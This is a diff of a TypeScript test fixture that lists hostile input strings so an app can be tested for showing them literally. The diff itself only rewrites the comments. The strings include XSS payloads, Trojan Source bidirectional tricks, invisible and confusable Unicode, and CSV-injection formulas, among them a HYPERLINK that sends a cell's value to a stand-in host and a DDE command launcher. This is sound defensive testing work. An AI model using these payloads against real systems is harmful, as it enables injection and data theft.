@@ -1,11 +1,13 @@
-/** Where a text that means harm would leave its trace, if anything of it were run. */
+/** Global variable that an executed hostile text sets. */
 export const trace = 'geistHit'
 
 const run = `globalThis.${trace}=1`
 
 /**
- * Texts that would be run where text became HTML, an address or a script: by the kinds of OWASP's "Cross Site Scripting Prevention" and "XSS Filter Evasion" cheat sheets, of PortSwigger's "Cross-site scripting
- * cheat sheet", and of Heiderich's "mXSS attacks" (2013), written anew for what this app is made of.
+ * Texts that would execute if the app treated them as HTML, a URL or a script. They follow the
+ * categories of OWASP's "Cross Site Scripting Prevention" and "XSS Filter Evasion" cheat sheets, of
+ * PortSwigger's "Cross-site scripting cheat sheet", and of Heiderich's "mXSS attacks" (2013),
+ * rewritten for this app.
  */
 const scripts = [
   `<script>${run}</script>`,
@@ -24,21 +26,27 @@ const scripts = [
   `javascript:${run}//https://geist.example/`,
 ]
 
-/** Texts that draw others from the other end, or themselves as something else: Boucher and Anderson, "Trojan Source" (2021), and Unicode's Standard Annex 9. The last ends what holds it before it begins. */
+/**
+ * Texts that use bidirectional controls to reorder or disguise text: Boucher and Anderson, "Trojan
+ * Source" (2021), and Unicode Standard Annex 9. The last one closes the enclosing isolates first.
+ */
 const turned = [
   'The bill is \u202E007$ \u202Cand no more',
   'access \u2067admin \u2066// \u2069 \u2069 begin',
   '\u2069\u2069\u202C\u202Eout of its box',
 ]
 
-/** Texts of which less can be seen than there is: Unicode's Technical Report 36. */
+/** Texts with invisible characters: Unicode Technical Report 36. */
 const unseen = [
   'no\u200Bthing \u2060to\uFEFF see\u00AD here',
   '\u200B\u2800\u3164\u{E0041}',
   'tag\u{E0074}\u{E0061}\u{E0067}',
 ]
 
-/** What is larger than a letter has room: marks upon marks, as in 'Zalgo' texts, one word without an end, and a picture of many parts. */
+/**
+ * Oversized texts: stacked combining marks ('Zalgo'), an unbroken word, a wide ligature, and an
+ * emoji sequence of many parts.
+ */
 const huge = [
   `Z${'\u0335\u0321\u0353\u034D\u0346\u0310'.repeat(30)}a${'\u0308\u030B\u0359'.repeat(60)}lgo`,
   'W'.repeat(600),
@@ -46,7 +54,7 @@ const huge = [
   `👩${'\u200D👩'.repeat(60)}`,
 ]
 
-/** What means something to a spreadsheet (OWASP, "CSV Injection"), to YAML or to Markdown where it is exported and read again. */
+/** Texts with a meaning in spreadsheets (OWASP, "CSV Injection"), YAML or Markdown. */
 const structures = [
   `=HYPERLINK("https://evil.example/?"&A1,"press")`,
   `@SUM(1+1)*cmd|'/c calc'!A0`,
@@ -55,12 +63,12 @@ const structures = [
 ]
 
 /**
- * The corpus: texts that somebody might write, import or have an AI say, and that have to be shown as what they are, and as nothing else. Where only
- * the latest are shown those are the largest.
+ * The corpus: texts that a user might write, import or get from an AI. The app must show them
+ * literally. The largest come last, so that lists of only the latest entries show those.
  */
 export const hostileTexts: readonly string[] = [...scripts, ...turned, ...unseen, ...structures, ...huge]
 
-/** Names that look like 'ada', or like nothing, and are not it: by the confusable letters of Unicode's Technical Standard 39. */
+/** Names that resemble 'ada' or look empty: Unicode Technical Standard 39. */
 export const lookalikes: readonly string[] = [
   'аda',
   'ad\u0430',
